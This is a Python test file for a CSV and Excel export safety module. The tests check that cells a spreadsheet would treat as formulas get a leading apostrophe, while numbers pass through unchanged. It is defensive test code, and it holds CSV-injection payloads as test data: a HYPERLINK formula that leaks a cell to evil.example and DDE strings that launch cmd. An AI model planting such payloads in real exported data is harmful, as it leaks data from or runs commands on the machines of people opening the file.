"""csv_safety: text that a spreadsheet would run as a formula is neutralised; numbers are untouched."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from safer_communities.csv_safety import DANGEROUS, protect_sheet, safe_cell, safe_frame


def test_the_issue_payloads_are_neutralised() -> None:
    for payload in ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
                    "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1"):
        assert safe_cell(payload) == "'" + payload


def test_numbers_and_plain_text_are_left_alone() -> None:
    for value in ("-1.5", "+3", "-0", "-.5", "1e-3", "-2E+4", "-", "Burnley", "<5", "[c]", "", 3, -4.5, None):
        assert safe_cell(value) == value


@given(st.text(max_size=40))
@settings(deadline=None)
def test_no_text_leaves_as_a_formula(text: str) -> None:
    out = safe_cell(text)
    assert out == text or out == "'" + text  # nothing is lost: the original follows the apostrophe
    if out == text and text.startswith(DANGEROUS) and text != "-":
        float(text)  # only plain numbers (and a lone "-") keep their sign
    buffer = io.StringIO()
    csv.writer(buffer).writerow([out])
    assert next(csv.reader(io.StringIO(buffer.getvalue())), [""])[0] == out


def test_frames_keep_numbers_and_fix_text_and_headers() -> None:
    frame = pd.DataFrame({"area_name": ["=cmd()", "Preston"], "count": [-3, 4], "=bad": ["@x", "ok"]})
    out = safe_frame(frame)
    assert out["area_name"].tolist() == ["'=cmd()", "Preston"]
    assert out["count"].tolist() == [-3, 4]
    assert list(out.columns) == ["area_name", "count", "'=bad"]
    assert frame["area_name"].iloc[0] == "=cmd()"  # the caller's frame is untouched


def test_excel_cells_that_would_be_formulas_are_stored_as_text(tmp_path) -> None:
    book = Workbook()
    book.active.append(["=HYPERLINK(\"http://evil.example\")", 5, "Burnley"])
    protect_sheet(book.active)
    book.save(tmp_path / "t.xlsx")
    cell = load_workbook(tmp_path / "t.xlsx").active["A1"]
    assert cell.data_type == "s" and cell.value == "=HYPERLINK(\"http://evil.example\")"
